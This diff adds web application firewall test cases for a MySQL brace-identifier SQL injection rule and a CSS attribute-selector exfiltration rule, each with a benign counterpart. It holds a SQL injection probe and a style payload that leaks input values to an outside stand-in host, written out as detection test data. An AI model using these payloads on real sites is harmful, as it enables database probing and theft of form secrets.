@@ -159,3 +159,21 @@ describe('WAF SQLi: Oracle network packages, ISNULL probes and arithmetic compar
     expectNotFlaggedBy(req, ruleId);
   });
 });
+
+describe('WAF: back-quoted brace identifiers in SQL and CSS value exfiltration', () => {
+  it("blocks MySQL's {`if`1} brace identifier after AND at sensitivity 70 (SQLI-159)", () => {
+    expectBlocked(form(`c=${encodeURIComponent('1 and{`if`1}=1')}`), 'SQLI-159');
+  });
+
+  it('allows a JSX template literal in braces', () => {
+    expectNotFlaggedBy(q('const a = {`${x}`}'), 'SQLI-159');
+  });
+
+  it('challenges an input[value^=…] selector loading another host at sensitivity 70 (XSS-193)', () => {
+    expectDetected(cookie('<style>input[value^=a]{background:url(//x.example/a)}</style>'), 'XSS-193');
+  });
+
+  it('allows a value selector with a relative background image', () => {
+    expectNotFlaggedBy(q('input[value="x"] { background: url(img/x.png) }'), 'XSS-193');
+  });
+});
